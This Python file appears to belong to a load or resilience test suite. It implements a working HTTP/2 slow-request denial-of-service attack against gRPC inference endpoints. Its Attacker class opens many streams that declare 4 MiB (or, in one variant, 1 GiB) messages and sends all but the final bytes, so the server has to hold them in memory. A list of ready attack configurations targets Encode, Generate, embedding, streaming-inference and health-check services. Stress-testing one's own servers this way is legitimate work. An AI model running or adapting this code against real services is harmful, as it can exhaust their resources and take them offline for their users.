"""Requests of 4 MiB that are sent but for their last bytes, and held."""

import contextlib
import select
import socket
import time

from measure import INFERENCE, MIB, Attack
from raw_http2 import DATA, INITIAL_WINDOW_SIZE, LARGEST_FRAME, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, headers

MESSAGE_BYTES = 4 * MIB
USUAL_WINDOW = 65535


class Attacker:
    """One connection that sends of each call's message what it may, but for the last bytes. Never waits."""

    def __init__(self, address, path, calls, size):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.unread, self.first_window, self.leave_of_all = b"", USUAL_WINDOW, USUAL_WINDOW
        fields = headers([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
                          ("te", "trailers"), ("content-type", "application/grpc")])
        self.left = {}  # by stream: bytes that are to be sent yet
        self.leave = {}  # by stream: bytes that may be sent, beyond its first window
        self.ended = 0
        opening = PREFACE + frame(SETTINGS, 0, 0)
        first = b"\0" + size.to_bytes(4, "big")
        for stream in range(1, 2 * calls, 2):
            opening += frame(1, 4, stream, fields) + frame(DATA, 0, stream, first)
            self.left[stream], self.leave[stream] = size - 1000, -len(first)
            self.leave_of_all -= len(first)
        self.to_send = opening
        self.socket.setblocking(False)

    def step(self):
        """Whether anything could be sent."""
        self.receive()
        if not self.to_send:
            self.to_send = b"".join(self.pieces())
        if not self.to_send:
            return False
        with contextlib.suppress(BlockingIOError):
            self.to_send = self.to_send[self.socket.send(self.to_send):]
            return True
        return False

    def pieces(self, most=16):
        for stream in list(self.left):
            size = min(self.left[stream], LARGEST_FRAME, self.leave_of_all, self.first_window + self.leave[stream])
            if size <= 0:
                continue
            self.left[stream] -= size
            self.leave[stream] -= size
            self.leave_of_all -= size
            if not self.left[stream]:
                del self.left[stream]
            else:
                self.left[stream] = self.left.pop(stream)  # the others first
            yield frame(DATA, 0, stream, b"a" * size)
            most -= 1
            if not most:
                return

    def receive(self):
        with contextlib.suppress(BlockingIOError):
            data = self.socket.recv(1 << 16)
            if not data:
                raise ConnectionError("the server has closed the connection")
            self.unread += data
        while len(self.unread) >= 9:
            size = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + size:
                break
            kind, flags, stream = self.unread[3], self.unread[4], int.from_bytes(self.unread[5:9], "big")
            payload, self.unread = self.unread[9:9 + size], self.unread[9 + size:]
            if kind == WINDOW_UPDATE and stream:
                self.leave[stream] = self.leave.get(stream, 0) + int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE:
                self.leave_of_all += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & 1:
                for place in range(0, len(payload), 6):
                    if int.from_bytes(payload[place:place + 2], "big") == INITIAL_WINDOW_SIZE:
                        self.first_window = int.from_bytes(payload[place + 2:place + 6], "big")
                self.to_send += frame(SETTINGS, 1, 0)
            elif kind == 6 and not flags & 1:
                self.to_send += frame(6, 1, 0, payload)
            elif kind == RST_STREAM or (kind in (0, 1) and flags & 1):
                self.ended += stream in self.left
                self.left.pop(stream, None)


def unfinished(path, connections, calls, size=MESSAGE_BYTES):
    def send(address, end):
        attackers = []
        for _ in range(connections):
            with contextlib.suppress(OSError):
                attackers.append(Attacker(address, path, calls, size))
        while attackers and time.monotonic() < end:
            sent = False
            for attacker in list(attackers):
                try:
                    sent = attacker.step() or sent
                except OSError:
                    attackers.remove(attacker)
            if not sent:
                select.select([attacker.socket for attacker in attackers[:500]], [], [], 0.01)

    of_each = f"{calls:,} calls" if calls > 1 else "a call"
    ways = f"{connections:,} connections, each" if connections > 1 else "a connection"
    send.__doc__ = f"{ways} with {of_each} of {path}, whose messages are held at all but 1,000 of {size:,} bytes."
    return send


def tokenize():
    return INFERENCE + "Tokenize", field(1, "embed-en") + field(2, "a mail server")


ATTACKS = tuple(Attack(f"unfinished messages: {name}", unfinished(path, *sizes), call=tokenize) for name, path, *sizes in (
    ("Encode, one connection", INFERENCE + "Encode", 1, 1000),
    ("Encode, 1,000 connections", INFERENCE + "Encode", 1000, 1),
    ("EncodeMany, one connection", INFERENCE + "EncodeMany", 1, 1000),
    ("EncodeMany, 1,000 connections", INFERENCE + "EncodeMany", 1000, 1),
    ("GenerateMany, one connection", INFERENCE + "GenerateMany", 1, 1000),
    ("ModelStreamInfer, one connection", "/inference.GRPCInferenceService/ModelStreamInfer", 1, 1000),
    ("EmbedStream, one connection", "/tei.v1.Embed/EmbedStream", 1, 1000),
    ("Health, one connection", "/grpc.health.v1.Health/Check", 1, 1000),
    ("Health, 1,000 connections", "/grpc.health.v1.Health/Check", 1000, 1),
    ("one of a gigabyte", INFERENCE + "EncodeMany", 1, 1, 1 << 30)))
